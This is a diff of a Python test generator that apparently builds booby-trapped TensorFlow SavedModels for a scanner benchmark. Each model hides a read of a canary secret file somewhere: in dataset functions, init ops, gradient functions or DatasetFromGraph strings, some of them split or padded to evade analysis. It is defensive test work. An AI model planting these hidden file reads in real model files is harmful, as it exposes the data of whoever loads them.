@@ -205,25 +205,19 @@ def _(place: Place):
     """In the next function of a GeneratorDataset."""
 
     def leak(x, y):
-        zero = tf.constant(0, tf.int64)
-        functions = {
-            "init_func": tf.function(lambda a: a).get_concrete_function(
-                tf.TensorSpec([], tf.int64)
-            ),
-            "next_func": tf.function(
-                lambda a: tf.io.read_file(f"{place.canary}/secret.txt")
-            ).get_concrete_function(tf.TensorSpec([], tf.int64)),
-            "finalize_func": tf.function(lambda a: a).get_concrete_function(
-                tf.TensorSpec([], tf.int64)
-            ),
-        }
+        number = tf.TensorSpec([], tf.int64)
+        start = tf.function(lambda: tf.constant(0, tf.int64)).get_concrete_function()
+        following = tf.function(lambda state: _read(place)).get_concrete_function(number)
+        end = tf.function(lambda state: state).get_concrete_function(number)
         data = raw.GeneratorDataset(
-            init_func_other_args=[zero][:0],
+            init_func_other_args=[],
             next_func_other_args=[],
             finalize_func_other_args=[],
+            init_func=start,
+            next_func=following,
+            finalize_func=end,
             output_types=[tf.string],
             output_shapes=[[]],
-            **{**functions, "init_func": tf.function(lambda: zero).get_concrete_function()},
         )
         iterator = raw.AnonymousIteratorV2(output_types=[tf.string], output_shapes=[[]])[0]
         raw.MakeIterator(dataset=data, iterator=iterator)
@@ -332,7 +326,7 @@ def _init_reads(place: Place, key: str):
     export_v1(place.path, build)
 
 
-@_hidden("sm-hidden-main-op", trigger="load-cpp", fires=fires("load-cpp", "opens", "secret.txt"))
+@_hidden("sm-hidden-main-op", trigger="load", fires=fires("load-cpp", "opens", "secret.txt"))
 def _(place: Place):
     """In the init operation, as signature __saved_model_init_op: TensorFlow Serving runs it when it loads."""
     _init_reads(place, "main_op")
@@ -340,7 +334,7 @@ def _(place: Place):
 
 @_hidden(
     "sm-hidden-collection-main-op",
-    trigger="load-cpp",
+    trigger="load",
     fires=fires("load-cpp", "opens", "secret.txt"),
 )
 def _(place: Place):
@@ -348,9 +342,7 @@ def _(place: Place):
     _init_reads(place, "saved_model_main_op")
 
 
-@_hidden(
-    "sm-hidden-legacy-init-op", trigger="load-cpp", fires=fires("load-cpp", "opens", "secret.txt")
-)
+@_hidden("sm-hidden-legacy-init-op", trigger="load", fires=fires("load-cpp", "opens", "secret.txt"))
 def _(place: Place):
     """The same in the collection legacy_init_op."""
     _init_reads(place, "legacy_init_op")
@@ -400,7 +392,7 @@ def _(place: Place):
     by_hand(place.path, [call], ("y", tf.string, []), _function("normalize", place))
 
 
-@_hidden("sm-hidden-nested-name-attr-list")
+@_hidden("sm-hidden-nested-name-attr-list", fires=None)
 def _(place: Place):
     """A function is named inside the attributes of a NameAttrList: PartitionedCall f=outer[f=inner] with a placeholder attribute."""
     outer = definition(lambda: tf.constant(""), name="outer")[0]
@@ -419,7 +411,7 @@ def _(place: Place):
     by_hand(place.path, [call], ("y", tf.string, []), [outer, *_function("inner", place)])
 
 
-@_hidden("sm-hidden-symbolic-gradient", fires=READS)
+@_hidden("sm-hidden-symbolic-gradient", fires=fires("load-cpp-call", "opens", "secret.txt"))
 def _(place: Place):
     """In the gradient of a function, which library.gradient names and SymbolicGradient calls (2.1 fact 5)."""
     forward = definition(lambda x: tf.identity(x), tf.TensorSpec([], tf.float32), name="forward")
@@ -467,8 +459,15 @@ def _(place: Place):
         hidden[0].ret[new] = hidden[0].ret[old]
         del hidden[0].ret[old]
         hidden[0].signature.output_arg[0].name = new
-    call = node("y", "PartitionedCall", [], Tin=[], Tout=[tf.string], f=Func("shown"))
-    by_hand(place.path, [call], ("y", tf.string, []), [*shown, *hidden])
+    call = node(
+        "called", "PartitionedCall", [], "/device:CPU:0", Tin=[], Tout=[tf.string], f=Func("shown")
+    )
+    # Grappler leaves graphs of fewer than four nodes alone.
+    chain = [
+        node(f"i{n}", "Identity", [f"i{n - 1}" if n else "called"], T=tf.string) for n in range(4)
+    ]
+    last = node("y", "Identity", ["i3"], T=tf.string)
+    by_hand(place.path, [call, *chain, last], ("y", tf.string, []), [*shown, *hidden])
 
 
 def _dataset_graph(place: Place) -> graph_pb2.GraphDef:
@@ -481,6 +480,17 @@ def _dataset_graph(place: Place) -> graph_pb2.GraphDef:
             name="made",
         )
     )
+
+
+def from_graph(graph_def) -> dict:
+    """Reads what a graph in a string makes. In a function: at the top, grappler folds the dataset and fails."""
+    from tensorflow.python.data.ops.dataset_ops import _VariantDataset
+
+    spec = tf.TensorSpec([], tf.string)
+    data = tf.data.Dataset.range(1).flat_map(
+        lambda i: _VariantDataset(raw.DatasetFromGraph(graph_def=graph_def), spec)
+    )
+    return {"leak": data.reduce(tf.constant(""), lambda a, b: tf.strings.join([a, b]))}
 
 
 def _from_graph(graph_def) -> dict:
@@ -506,11 +516,25 @@ def _with_retval(graph: graph_pb2.GraphDef, tensor="made") -> bytes:
     ["DatasetFromGraph", "TextLineDataset"],
     SECRET,
     also=["file-read"],
-    fires=READS,
+    fires=None,
 )
 def _(place: Place):
     """A whole graph in a string, executed by DatasetFromGraph (reference 1.3)."""
     dense(place.path, lambda x, y: _from_graph(tf.constant(_with_retval(_dataset_graph(place)))))
+
+
+@attack(
+    "sm-dataset-from-graph-mapped",
+    "savedmodel",
+    "code-execution",
+    ["DatasetFromGraph", "TextLineDataset"],
+    SECRET,
+    also=["file-read"],
+    fires=READS,
+)
+def _(place: Place):
+    """The same in the function of a dataset."""
+    dense(place.path, lambda x, y: from_graph(tf.constant(_with_retval(_dataset_graph(place)))))
 
 
 @attack(
@@ -530,7 +554,7 @@ def _(place: Place):
             lambda: tf.identity(raw.DatasetFromGraph(graph_def=tf.constant(inner)), name="made")
         )
     )
-    dense(place.path, lambda x, y: _from_graph(tf.constant(outer)))
+    dense(place.path, lambda x, y: from_graph(tf.constant(outer)))
 
 
 @attack(
@@ -566,7 +590,7 @@ def _(place: Place):
     graph = _with_retval(_dataset_graph(place))
     dense(
         place.path,
-        lambda x, y: _from_graph(
+        lambda x, y: from_graph(
             tf.strings.join([tf.constant(graph[:31]), tf.constant(graph[31:])])
         ),
     )
@@ -598,7 +622,7 @@ def _(place: Place):
     export_v1(place.path, build)
 
 
-@_hidden("sm-hidden-control-only", fires=fires("call", "opens", "secret.txt"))
+@_hidden("sm-hidden-control-only", fires=None)
 def _(place: Place):
     """Reached by a control edge only: nothing of it is in an output."""
 
@@ -626,7 +650,7 @@ def _(place: Place):
     export_v1(place.path, build)
 
 
-@_hidden("sm-hidden-signature-default", fires=READS)
+@_hidden("sm-hidden-signature-default", fires=None)
 def _(place: Place):
     """The signature gives the path a default value, so that every request reads it."""
 
@@ -656,7 +680,7 @@ def _(place: Place):
     by_hand(place.path, [call], ("y", tf.string, []), _function("cluster_0", place))
 
 
-@_hidden("sm-hidden-one-shot-iterator", fires=READS)
+@_hidden("sm-hidden-one-shot-iterator", fires=fires("load-cpp-call", "reads"))
 def _(place: Place):
     """In the dataset factory of a TF1 one-shot iterator."""
 
